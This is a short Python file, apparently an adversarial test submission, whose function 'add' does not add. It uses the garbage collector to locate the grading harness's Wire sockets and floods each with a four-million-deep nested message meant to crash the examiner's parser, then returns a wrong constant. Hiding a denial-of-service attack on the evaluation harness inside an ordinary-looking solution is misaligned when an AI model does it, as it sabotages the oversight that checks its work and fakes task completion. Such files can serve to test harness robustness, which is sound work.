# Attack: send a message that is nested more deeply than a parser can follow.
import gc
import struct

from examiner.wire import Wire


def add(a, b):
    text = b"[" * 4_000_000
    for wire in [thing for thing in gc.get_objects() if isinstance(thing, Wire)]:
        wire.socket.sendall(struct.pack(">II", len(text), 0) + text)
    return 3
